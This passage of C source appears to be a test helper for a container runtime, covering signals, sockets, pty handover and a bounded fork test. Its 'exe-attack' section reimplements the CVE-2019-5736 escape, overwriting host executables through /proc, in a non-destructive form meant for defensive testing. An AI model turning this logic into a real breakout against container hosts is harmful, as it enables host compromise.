    double deadline = now_seconds(CLOCK_MONOTONIC) + secs;

    if (!kids)
        die("out of memory");
    fflush(stdout);
    while (forks < max && now_seconds(CLOCK_MONOTONIC) < deadline) {
        pid_t pid = fork();

        if (pid == 0) {
            /* Children never outlive us, even if we are killed before cleaning up. */
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            if (getppid() != parent)
                _exit(0);
            for (;;)
                pause();
        }
        if (pid < 0) {
            if (!first_error)
                first_error = errno;
            failures++;
            continue;
        }
        kids[forks++] = pid;
    }
    printf("forks: %ld\nfirst_error: %s\nfailures: %ld\n", forks,
           first_error ? errname(first_error) : "none", failures);
    fflush(stdout);
    for (long i = 0; i < forks; i++)
        kill(kids[i], SIGKILL);
    for (long i = 0; i < forks; i++)
        RETRY_EINTR(waitpid(kids[i], NULL, 0));
    free(kids);
    return 0;
}

static int cmd_spin(int argc, char **argv)
{
    double secs = parse_seconds(argv[1]);
    double start = now_seconds(CLOCK_MONOTONIC), cpu0 = now_seconds(CLOCK_PROCESS_CPUTIME_ID);
    volatile unsigned long sink = 0;

    while (now_seconds(CLOCK_MONOTONIC) - start < secs) {
        for (int i = 0; i < 10000; i++)
            sink += (unsigned long)i;
    }
    printf("wall: %.3f\ncpu: %.3f\n", now_seconds(CLOCK_MONOTONIC) - start,
           now_seconds(CLOCK_PROCESS_CPUTIME_ID) - cpu0);
    return 0;
}

static int cmd_counter(int argc, char **argv)
{
    int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    struct timespec tick = {.tv_nsec = 10 * 1000 * 1000};

    if (fd < 0)
        die("%s: %s", argv[1], strerror(errno));
    /* The number only grows, so rewriting at offset 0 always covers the old text: readers see
     * a whole number and the file never goes through an empty state as with O_TRUNC. */
    for (unsigned long long i = 1;; i++) {
        char buf[32];
        int len = snprintf(buf, sizeof(buf), "%llu\n", i);

        if (pwrite(fd, buf, (size_t)len, 0) != len)
            die("%s: %s", argv[1], strerror(errno));
        nanosleep(&tick, NULL);
    }
}

static int signal_pipe[2] = {-1, -1};

static void on_signal(int sig)
{
    int saved = errno;
    unsigned char c = (unsigned char)sig;

    (void)!write(signal_pipe[1], &c, 1);
    errno = saved;
}

static int cmd_signals(int argc, char **argv)
{
    /* Real handlers rather than sigwait: as pid 1 of a pid namespace the kernel drops signals
     * whose disposition is SIG_DFL, and blocking leaves them SIG_DFL. */
    static const int sigs[] = {SIGHUP, SIGINT, SIGQUIT, SIGUSR1, SIGUSR2, SIGTERM};
    struct sigaction sa = {.sa_handler = on_signal};

    if (pipe2(signal_pipe, O_CLOEXEC) < 0)
        die("pipe: %s", strerror(errno));
    sigemptyset(&sa.sa_mask);
    for (size_t i = 0; i < ARRAY_SIZE(sigs); i++) {
        if (sigaction(sigs[i], &sa, NULL) < 0)
            die("sigaction: %s", strerror(errno));
    }
    printf("ready\n");
    fflush(stdout);
    for (;;) {
        unsigned char c;
        ssize_t n = read(signal_pipe[0], &c, 1);

        if (n < 0 && errno == EINTR)
            continue;
        if (n != 1)
            die("signal pipe: %s", n < 0 ? strerror(errno) : "EOF");
        printf("got %s\n", signame(c));
        fflush(stdout);
        if (c == SIGTERM)
            return 0;
    }
}

static int cmd_write(int argc, char **argv)
{
    int fd = open(argv[1], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    size_t len = strlen(argv[2]);

    if (fd < 0 || write(fd, argv[2], len) != (ssize_t)len || close(fd) < 0) {
        printf("%s\n", errname(errno));
        return 1;
    }
    printf("ok\n");
    return 0;
}

static int cmd_open(int argc, char **argv)
{
    const char *mode = argc > 2 ? argv[2] : "r";
    int flags, fd;

    if (streq(mode, "r"))
        flags = O_RDONLY;
    else if (streq(mode, "w"))
        flags = O_WRONLY;
    else if (streq(mode, "rw"))
        flags = O_RDWR;
    else
        die("open mode must be r, w or rw, not %s", mode);
    fd = open(argv[1], flags | O_CLOEXEC | O_NOCTTY);
    print_ok_or_errno(fd);
    if (fd >= 0)
        close(fd);
    return fd < 0;
}

static int cmd_mknod(int argc, char **argv)
{
    mode_t type;
    dev_t dev = 0;
    int ret;

    if (streq(argv[2], "c") || streq(argv[2], "u"))
        type = S_IFCHR;
    else if (streq(argv[2], "b"))
        type = S_IFBLK;
    else if (streq(argv[2], "p"))
        type = S_IFIFO;
    else
        die("mknod type must be c, b or p, not %s", argv[2]);
    if (type != S_IFIFO) {
        if (argc < 5)
            die("mknod %s needs MAJOR and MINOR", argv[2]);
        dev = makedev((unsigned)parse_long(argv[3], 0, UINT32_MAX),
                      (unsigned)parse_long(argv[4], 0, UINT32_MAX));
    }
    ret = mknod(argv[1], type | 0666, dev);
    print_ok_or_errno(ret);
    return ret < 0;
}

static int cmd_mkdir(int argc, char **argv)
{
    int ret = mkdir(argv[1], 0755);

    print_ok_or_errno(ret);
    return ret < 0;
}

static int cmd_syscall_getpid(int argc, char **argv)
{
    /* Straight to the kernel: glibc could answer from a cache and dodge the seccomp filter. */
    long ret = syscall(SYS_getpid);

    print_ok_or_errno(ret < 0 ? -1 : 0);
    return ret < 0;
}

static socklen_t unix_address(const char *path, struct sockaddr_un *sa)
{
    size_t len = strlen(path);

    memset(sa, 0, sizeof(*sa));
    sa->sun_family = AF_UNIX;
    if (len == 0 || len >= sizeof(sa->sun_path))
        die("bad socket path length: %s", path);
    memcpy(sa->sun_path, path, len);
    if (path[0] == '@') {
        /* Abstract name: leading NUL, and the length counts exactly the name bytes. */
        sa->sun_path[0] = '\0';
        return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len);
    }
    return (socklen_t)(offsetof(struct sockaddr_un, sun_path) + len + 1);
}

static int cmd_sdnotify(int argc, char **argv)
{
    const char *path = getenv("NOTIFY_SOCKET");
    struct sockaddr_un sa;
    socklen_t salen;
    _cleanup_close_ int fd = -1;

    if (!path || !*path)
        die("NOTIFY_SOCKET is not set");
    salen = unix_address(path, &sa);
    fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    if (fd < 0)
        die("socket: %s", strerror(errno));
    for (int i = 1; i < argc; i++) {
        if (sendto(fd, argv[i], strlen(argv[i]), MSG_NOSIGNAL, (struct sockaddr *)&sa, salen) < 0) {
            printf("%s\n", errname(errno));
            return 1;
        }
        printf("sent %s\n", argv[i]);
    }
    return 0;
}

static int cmd_notify_recv(int argc, char **argv)
{
    const char *path = argv[1];
    long count = argc > 2 ? parse_long(argv[2], 1, LONG_MAX) : 1;
    double timeout = argc > 3 ? parse_seconds(argv[3]) : 10.0;
    double deadline = now_seconds(CLOCK_MONOTONIC) + timeout;
    struct sockaddr_un sa;
    socklen_t salen = unix_address(path, &sa);
    int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
    int ret = 1;

    if (fd < 0)
        die("socket: %s", strerror(errno));
    if (bind(fd, (struct sockaddr *)&sa, salen) < 0)
        die("bind %s: %s", path, strerror(errno));
    fprintf(stderr, "listening %s\n", path);
    while (count > 0) {
        double left = deadline - now_seconds(CLOCK_MONOTONIC);
        struct pollfd pfd = {.fd = fd, .events = POLLIN};
        char buf[4097];
        ssize_t n;
        int r;

        if (left <= 0) {
            fprintf(stderr, PROG ": notify-recv: timed out\n");
            goto out;
        }
        r = poll(&pfd, 1, isinf(left) ? -1 : (int)(left * 1000) + 1);
        if (r < 0 && errno != EINTR)
            die("poll: %s", strerror(errno));
        if (r <= 0)
            continue;
        n = recv(fd, buf, sizeof(buf) - 1, 0);
        if (n < 0) {
            if (errno == EINTR)
                continue;
            die("recv: %s", strerror(errno));
        }
        buf[n] = '\0';
        printf("%s\n", buf);
        fflush(stdout);
        count--;
    }
    ret = 0;
out:
    if (path[0] != '@')
        unlink(path);
    close(fd);
    return ret;
}

static int cmd_listen_fds(int argc, char **argv)
{
    const char *fds = getenv("LISTEN_FDS"), *pid = getenv("LISTEN_PID");
    static const char hello[] = "hello from fd 3\n";
    int conn;

    if (!fds || atoi(fds) < 1) {
        printf("LISTEN_FDS: %s\n", fds ? fds : "unset");
        return 1;
    }
    if (!pid || strtol(pid, NULL, 10) != getpid()) {
        printf("LISTEN_PID: %s but pid is %d\n", pid ? pid : "unset", (int)getpid());
        return 1;
    }
    printf("LISTEN_FDS: %s\n", fds);
    fflush(stdout);
    conn = RETRY_EINTR(accept4(3, NULL, NULL, SOCK_CLOEXEC));
    if (conn < 0) {
        printf("accept: %s\n", errname(errno));
        return 1;
    }
    if (write(conn, hello, sizeof(hello) - 1) != (ssize_t)(sizeof(hello) - 1)) {
        printf("write: %s\n", errname(errno));
        return 1;
    }
    close(conn);
    printf("served\n");
    return 0;
}

/* SHA-256 (FIPS 180-4), enough to fingerprint a stream without a crypto library. */
struct sha256 {
    uint32_t h[8];
    uint8_t block[64];
    size_t fill;
    uint64_t bytes;
};

static const uint32_t sha256_k[64] = {
        0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4,
        0xab1c5ed5, 0xd807aa98, 0x12835b01, 0x243185be, 0x550c7dc3, 0x72be5d74, 0x80deb1fe,
        0x9bdc06a7, 0xc19bf174, 0xe49b69c1, 0xefbe4786, 0x0fc19dc6, 0x240ca1cc, 0x2de92c6f,
        0x4a7484aa, 0x5cb0a9dc, 0x76f988da, 0x983e5152, 0xa831c66d, 0xb00327c8, 0xbf597fc7,
        0xc6e00bf3, 0xd5a79147, 0x06ca6351, 0x14292967, 0x27b70a85, 0x2e1b2138, 0x4d2c6dfc,
        0x53380d13, 0x650a7354, 0x766a0abb, 0x81c2c92e, 0x92722c85, 0xa2bfe8a1, 0xa81a664b,
        0xc24b8b70, 0xc76c51a3, 0xd192e819, 0xd6990624, 0xf40e3585, 0x106aa070, 0x19a4c116,
        0x1e376c08, 0x2748774c, 0x34b0bcb5, 0x391c0cb3, 0x4ed8aa4a, 0x5b9cca4f, 0x682e6ff3,
        0x748f82ee, 0x78a5636f, 0x84c87814, 0x8cc70208, 0x90befffa, 0xa4506ceb, 0xbef9a3f7,
        0xc67178f2,
};

static uint32_t ror32(uint32_t x, unsigned n)
{
    return (x >> n) | (x << (32 - n));
}

static void sha256_init(struct sha256 *s)
{
    static const uint32_t iv[8] = {0x6a09e667, 0xbb67ae85, 0x3c6ef372, 0xa54ff53a,
                                   0x510e527f, 0x9b05688c, 0x1f83d9ab, 0x5be0cd19};

    memcpy(s->h, iv, sizeof(iv));
    s->fill = 0;
    s->bytes = 0;
}

static void sha256_block(struct sha256 *s, const uint8_t *p)
{
    uint32_t w[64], a, b, c, d, e, f, g, h;

    for (int i = 0; i < 16; i++)
        w[i] = (uint32_t)p[4 * i] << 24 | (uint32_t)p[4 * i + 1] << 16 |
               (uint32_t)p[4 * i + 2] << 8 | p[4 * i + 3];
    for (int i = 16; i < 64; i++) {
        uint32_t s0 = ror32(w[i - 15], 7) ^ ror32(w[i - 15], 18) ^ (w[i - 15] >> 3);
        uint32_t s1 = ror32(w[i - 2], 17) ^ ror32(w[i - 2], 19) ^ (w[i - 2] >> 10);
        w[i] = w[i - 16] + s0 + w[i - 7] + s1;
    }
    a = s->h[0], b = s->h[1], c = s->h[2], d = s->h[3];
    e = s->h[4], f = s->h[5], g = s->h[6], h = s->h[7];
    for (int i = 0; i < 64; i++) {
        uint32_t t1 = h + (ror32(e, 6) ^ ror32(e, 11) ^ ror32(e, 25)) + ((e & f) ^ (~e & g)) +
                      sha256_k[i] + w[i];
        uint32_t t2 = (ror32(a, 2) ^ ror32(a, 13) ^ ror32(a, 22)) + ((a & b) ^ (a & c) ^ (b & c));
        h = g, g = f, f = e, e = d + t1;
        d = c, c = b, b = a, a = t1 + t2;
    }
    s->h[0] += a, s->h[1] += b, s->h[2] += c, s->h[3] += d;
    s->h[4] += e, s->h[5] += f, s->h[6] += g, s->h[7] += h;
}

static void sha256_update(struct sha256 *s, const uint8_t *p, size_t len)
{
    s->bytes += len;
    while (len > 0) {
        size_t take = 64 - s->fill;

        if (take > len)
            take = len;
        memcpy(s->block + s->fill, p, take);
        s->fill += take;
        p += take;
        len -= take;
        if (s->fill == 64) {
            sha256_block(s, s->block);
            s->fill = 0;
        }
    }
}

static void sha256_final(struct sha256 *s, uint8_t out[32])
{
    uint64_t bits = s->bytes * 8;
    uint8_t pad = 0x80, zero = 0, len[8];

    sha256_update(s, &pad, 1);
    while (s->fill != 56)
        sha256_update(s, &zero, 1);
    for (int i = 0; i < 8; i++)
        len[i] = (uint8_t)(bits >> (56 - 8 * i));
    sha256_update(s, len, 8);
    for (int i = 0; i < 8; i++) {
        out[4 * i] = (uint8_t)(s->h[i] >> 24);
        out[4 * i + 1] = (uint8_t)(s->h[i] >> 16);
        out[4 * i + 2] = (uint8_t)(s->h[i] >> 8);
        out[4 * i + 3] = (uint8_t)s->h[i];
    }
}

static int cmd_cat_stdin_hash(int argc, char **argv)
{
    struct sha256 s;
    uint8_t buf[65536], digest[32];
    unsigned long long total = 0;

    sha256_init(&s);
    for (;;) {
        ssize_t n = RETRY_EINTR(read(0, buf, sizeof(buf)));

        if (n < 0)
            die("read stdin: %s", strerror(errno));
        if (n == 0)
            break;
        sha256_update(&s, buf, (size_t)n);
        total += (unsigned long long)n;
    }
    sha256_final(&s, digest);
    printf("sha256: ");
    for (size_t i = 0; i < sizeof(digest); i++)
        printf("%02x", digest[i]);
    printf("\nbytes: %llu\n", total);
    return 0;
}

/* The runtime's half of --console-socket, so console-receiver can be tested without one. */
static int cmd_console_send(int argc, char **argv)
{
    struct sockaddr_un sa;
    socklen_t salen = unix_address(argv[1], &sa);
    char name[128];
    union {
        char buf[CMSG_SPACE(sizeof(int))];
        struct cmsghdr align;
    } control;
    struct iovec iov = {.iov_base = name};
    struct msghdr msg = {
            .msg_iov = &iov,
            .msg_iovlen = 1,
            .msg_control = control.buf,
            .msg_controllen = sizeof(control.buf),
    };
    struct cmsghdr *c;
    int master, slave, sock, status;
    pid_t child;

    master = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0 ||
        ptsname_r(master, name, sizeof(name)) != 0)
        die("allocating a pty: %s", strerror(errno));
    /* The slave is open before the master leaves, so the receiver never sees a hung up pty. */
    slave = open(name, O_RDWR | O_NOCTTY | O_CLOEXEC);
    if (slave < 0)
        die("%s: %s", name, strerror(errno));
    sock = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (sock < 0 || connect(sock, (struct sockaddr *)&sa, salen) < 0)
        die("connect %s: %s", argv[1], strerror(errno));
    iov.iov_len = strlen(name);
    c = CMSG_FIRSTHDR(&msg);
    c->cmsg_level = SOL_SOCKET;
    c->cmsg_type = SCM_RIGHTS;
    c->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(c), &master, sizeof(int));
    if (sendmsg(sock, &msg, MSG_NOSIGNAL) < 0)
        die("sendmsg: %s", strerror(errno));
    close(sock);
    close(master);

    fflush(stdout);
    child = fork();
    if (child < 0)
        die("fork: %s", strerror(errno));
    if (child == 0) {
        /* A new session makes the pty our controlling terminal, as in a container. */
        if (setsid() < 0 || ioctl(slave, TIOCSCTTY, 0) < 0)
            die("acquiring %s as controlling terminal: %s", name, strerror(errno));
        for (int fd = 0; fd <= 2; fd++) {
            if (dup2(slave, fd) < 0)
                die("dup2: %s", strerror(errno));
        }
        if (argc > 2) {
            execvp(argv[2], argv + 2);
            die("exec %s: %s", argv[2], strerror(errno));
        }
        printf("hello from %s\n", name);
        exit(0);
    }
    close(slave);
    if (RETRY_EINTR(waitpid(child, &status, 0)) < 0)
        die("waitpid: %s", strerror(errno));
    return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

/* ---------------------------------------------------------------------------------------- */
/* exe-attack: CVE-2019-5736 */

enum target_state { TARGET_PENDING, TARGET_DONE };

struct attack_target {
    pid_t pid;
    dev_t dev;
    ino_t ino;
    int pathfd;
    int open_err; /* O_PATH failure, for deduplicating reports per pid */
    enum target_state state;
    char link[256];
};

struct attack {
    pid_t only_pid; /* control: the victim child, nothing else */
    dev_t victim_dev;
    ino_t victim_ino;
    struct attack_target targets[512];
    size_t n;
    bool table_full_warned;
    int attempts;
    int wrote;
};

static struct attack_target *attack_add(struct attack *a)
{
    if (a->n < ARRAY_SIZE(a->targets)) {
        struct attack_target *t = &a->targets[a->n++];
        memset(t, 0, sizeof(*t));
        t->pathfd = -1;
        return t;
    }
    if (!a->table_full_warned)
        fprintf(stderr, PROG ": exe-attack: too many targets, ignoring new ones\n");
    a->table_full_warned = true;
    return NULL;
}

static void attack_report(struct attack *a, struct attack_target *t, const char *open_result,
                          const char *write_result)
{
    printf("target %d exe=%s open=%s write=%s\n", (int)t->pid, t->link, open_result, write_result);
    fflush(stdout);
    a->attempts++;
    t->state = TARGET_DONE;
    if (t->pathfd >= 0)
        close(t->pathfd);
    t->pathfd = -1;
}

/* A file that the attacker sees at the same path is part of its own rootfs: writing it is
 * the container's business, not an escape. */
static bool attack_own_file(const char *link, const struct stat *st)
{
    struct stat here;

    return link[0] == '/' && stat(link, &here) == 0 && here.st_dev == st->st_dev &&
           here.st_ino == st->st_ino;
}

static void attack_consider(struct attack *a, pid_t pid)
{
    char path[64], link[256];
    ssize_t len;
    int fd;
    struct stat st;
    struct attack_target *t;

    snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
    len = readlink(path, link, sizeof(link) - 1);
    if (len < 0) {
        if (errno == ENOENT || errno == ESRCH)
            return; /* kernel thread, zombie or gone */
        snprintf(link, sizeof(link), "?");
    } else {
        link[len] = '\0';
    }
    fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0) {
        int err = errno;

        if (err == ENOENT || err == ESRCH)
            return;
        for (size_t i = 0; i < a->n; i++) {
            if (a->targets[i].pid == pid && a->targets[i].open_err == err &&
                streq(a->targets[i].link, link))
                return;
        }
        t = attack_add(a);
        if (!t)
            return;
        t->pid = pid;
        t->open_err = err;
        snprintf(t->link, sizeof(t->link), "%s", link);
        attack_report(a, t, errname(err), "-");
        return;
    }
    if (fstat(fd, &st) < 0)
        goto skip;
    /* name what was opened: the process may have exec'd since the readlink above */
    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    len = readlink(path, link, sizeof(link) - 1);
    if (len >= 0)
        link[len] = '\0';
    for (size_t i = 0; i < a->n; i++) {
        if (!a->targets[i].open_err && a->targets[i].dev == st.st_dev &&
            a->targets[i].ino == st.st_ino)
            goto skip;
    }
    if (a->only_pid && (st.st_dev != a->victim_dev || st.st_ino != a->victim_ino))
        goto skip; /* the child has not exec'd the victim yet */
    t = attack_add(a);
    if (!t)
        goto skip;
    t->pid = pid;
    t->dev = st.st_dev;
    t->ino = st.st_ino;
    snprintf(t->link, sizeof(t->link), "%s", link);
    if (!a->only_pid && attack_own_file(link, &st)) {
        t->state = TARGET_DONE;
        printf("skip %d exe=%s reason=own-rootfs\n", (int)pid, link);
        fflush(stdout);
        goto skip;
    }
    t->pathfd = fd;
    t->state = TARGET_PENDING;
    return;
skip:
    close(fd);
}

static void attack_scan(struct attack *a)
{
    _cleanup_closedir_ DIR *dir = NULL;
    struct dirent *de;
    pid_t self = getpid();

    if (a->only_pid) {
        attack_consider(a, a->only_pid);
        return;
    }
    dir = opendir("/proc");
    if (!dir)
        die("/proc: %s", strerror(errno));
    while ((de = readdir(dir))) {
        pid_t pid;

        if (!isdigit((unsigned char)de->d_name[0]))
            continue;
        pid = (pid_t)atoi(de->d_name);
        if (pid != self)
            attack_consider(a, pid);
    }
}

/* Prove write access without destroying the target: put back the bytes already at offset 0;
 * if the file cannot be read, append a marker, which leaves an ELF runnable. */
static int attack_write(int pathfd, int wfd)
{
    char path[64];
    uint8_t head[16];
    ssize_t n = -1;
    int rfd;
    struct stat st;
    static const char marker[] = "berth-exe-attack\n";

    snprintf(path, sizeof(path), "/proc/self/fd/%d", pathfd);
    rfd = open(path, O_RDONLY | O_CLOEXEC);
    if (rfd >= 0) {
        n = pread(rfd, head, sizeof(head), 0);
        close(rfd);
    }
    if (n > 0)
        n = pwrite(wfd, head, (size_t)n, 0);
    else if (fstat(wfd, &st) == 0)
        n = pwrite(wfd, marker, sizeof(marker) - 1, st.st_size);
    return n > 0 ? 0 : (n == 0 ? EIO : errno);
}

static void attack_try(struct attack *a, struct attack_target *t, bool last_chance)
{
    char path[64];
    int wfd, err;

    snprintf(path, sizeof(path), "/proc/self/fd/%d", t->pathfd);
    wfd = open(path, O_WRONLY | O_CLOEXEC);
    if (wfd < 0) {
        /* ETXTBSY lasts while anything still executes the file; keep trying until the
         * target and whatever launched it are gone, as the real exploit does. */
        if (errno == ETXTBSY && !last_chance)
            return;
        attack_report(a, t, errname(errno), "-");
        return;
    }
    err = attack_write(t->pathfd, wfd);
    close(wfd);
    if (!err)
        a->wrote++;
    attack_report(a, t, "OK", err ? errname(err) : "OK");
}

static void attack_run(struct attack *a, double secs)
{
    double deadline = now_seconds(CLOCK_MONOTONIC) + secs;

    printf("ready\n");
    fflush(stdout);
    /* No sleep between rounds: the runtime's window in the container can be milliseconds. */
    while (!a->wrote && now_seconds(CLOCK_MONOTONIC) < deadline) {
        attack_scan(a);
        for (size_t i = 0; i < a->n && !a->wrote; i++) {
            if (a->targets[i].state == TARGET_PENDING)
                attack_try(a, &a->targets[i], false);
        }
        if (a->only_pid)
            waitpid(a->only_pid, NULL, WNOHANG);
        sched_yield();
    }
    /* One breach settles it; stop touching further files. */
    for (size_t i = 0; i < a->n; i++) {
        struct attack_target *t = &a->targets[i];

        if (t->state != TARGET_PENDING)
            continue;
        if (a->wrote) {
            close(t->pathfd);
            t->pathfd = -1;
            t->state = TARGET_DONE;
        } else {
            attack_try(a, t, true);
        }
    }
    printf("attempts: %d\nresult: %s\n", a->attempts, a->wrote ? "wrote" : "blocked");
}

static int copy_file(const char *from, const char *to)
{
    _cleanup_close_ int in = open(from, O_RDONLY | O_CLOEXEC);
    _cleanup_close_ int out = -1;
    char buf[65536];
    ssize_t n;

    if (in < 0)
        return -1;
    out = open(to, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (out < 0)
        return -1;
    while ((n = RETRY_EINTR(read(in, buf, sizeof(buf)))) > 0) {
        if (write(out, buf, (size_t)n) != n)
            return -1;
    }
    if (n < 0 || fchmod(out, 0755) < 0)
        return -1;
    return close(TAKE_FD(out));
}

static int cmd_exe_attack(int argc, char **argv)
{
    static struct attack a;
    double secs = argc > 2 ? parse_seconds(argv[2]) : (streq(argv[1], "watch") ? 10.0 : 5.0);

    if (streq(argv[1], "watch")) {
        attack_run(&a, secs);
        return 0;
    }
    if (streq(argv[1], "control")) {
        const char *tmp = getenv("TMPDIR");
        char victim[PATH_MAX];
        struct stat st;
        pid_t child;

        snprintf(victim, sizeof(victim), "%s/victim-%d", tmp && *tmp ? tmp : "/tmp", (int)getpid());
        if (copy_file("/proc/self/exe", victim) < 0 || stat(victim, &st) < 0)
            die("copy /proc/self/exe to %s: %s", victim, strerror(errno));
        a.victim_dev = st.st_dev;
        a.victim_ino = st.st_ino;
        fflush(stdout);
        child = fork();
        if (child < 0)
            die("fork: %s", strerror(errno));
        if (child == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            execl(victim, victim, "sleep", "1", (char *)NULL);
            _exit(127);
        }
        a.only_pid = child;
        printf("victim %s pid %d\n", victim, (int)child);
        attack_run(&a, secs);
        kill(child, SIGKILL);
        RETRY_EINTR(waitpid(child, NULL, 0));
        unlink(victim);
        return 0;
    }
    die("exe-attack mode must be watch or control, not %s", argv[1]);
}

/* ---------------------------------------------------------------------------------------- */

static const struct command {
    const char *name;
    int (*fn)(int argc, char **argv);
    int min_args, max_args; /* not counting the command itself; -1: any number */
} commands[] = {
        {"caps", cmd_caps, 0, 0},
        {"seccomp", cmd_seccomp, 0, 0},
        {"fds", cmd_fds, 0, 0},
        {"rlimits", cmd_rlimits, 0, 0},
        {"ids", cmd_ids, 0, 0},
        {"umask", cmd_umask, 0, 0},
        {"cwd", cmd_cwd, 0, 0},
        {"hostname", cmd_hostname, 0, 0},
        {"pid", cmd_pid, 0, 0},
        {"env", cmd_env, 0, 0},
        {"oomscore", cmd_oomscore, 0, 0},
        {"personality", cmd_personality, 0, 0},
        {"sched", cmd_sched, 0, 0},
        {"ioprio", cmd_ioprio, 0, 0},
        {"affinity", cmd_affinity, 0, 0},
        {"mempolicy", cmd_mempolicy, 0, 0},
        {"timens", cmd_timens, 0, 0},
        {"tty", cmd_tty, 0, 0},
        {"mounts", cmd_mounts, 0, 0},
        {"ns", cmd_ns, 0, 0},
        {"cgroup", cmd_cgroup, 0, 0},
        {"exit", cmd_exit, 1, 1},
        {"kill-self", cmd_kill_self, 1, 1},
        {"sleep", cmd_sleep, 1, 1},
        {"alloc", cmd_alloc, 1, 1},
        {"forkbomb", cmd_forkbomb, 0, 2},
        {"spin", cmd_spin, 1, 1},
        {"counter", cmd_counter, 1, 1},
        {"signals", cmd_signals, 0, 0},
        {"write", cmd_write, 2, 2},
        {"open", cmd_open, 1, 2},
        {"mknod", cmd_mknod, 2, 4},
        {"mkdir", cmd_mkdir, 1, 1},
        {"syscall-getpid", cmd_syscall_getpid, 0, 0},
        {"sdnotify", cmd_sdnotify, 1, -1},
        {"notify-recv", cmd_notify_recv, 1, 3},
        {"listen-fds", cmd_listen_fds, 0, 0},
        {"cat-stdin-hash", cmd_cat_stdin_hash, 0, 0},
        {"exe-attack", cmd_exe_attack, 1, 2},
        {"console-send", cmd_console_send, 1, -1},
};

int main(int argc, char **argv)
{
    int ret;

    if (argc < 2) {
        fputs(usage_text, stderr);
        return 2;
    }
    if (streq(argv[1], "help") || streq(argv[1], "--help") || streq(argv[1], "-h")) {
        fputs(usage_text, stdout);
        return 0;
    }
    for (size_t i = 0; i < ARRAY_SIZE(commands); i++) {
        const struct command *c = &commands[i];
        int nargs = argc - 2;

        if (!streq(c->name, argv[1]))
            continue;
        if (nargs < c->min_args || (c->max_args >= 0 && nargs > c->max_args)) {
            fprintf(stderr, PROG ": wrong number of arguments for %s\n\n%s", c->name, usage_text);
            return 2;
        }
        ret = c->fn(argc - 1, argv + 1);
        fflush(stdout);
        return ret;
    }
    fprintf(stderr, PROG ": unknown command %s\n\n%s", argv[1], usage_text);
    return 2;
}
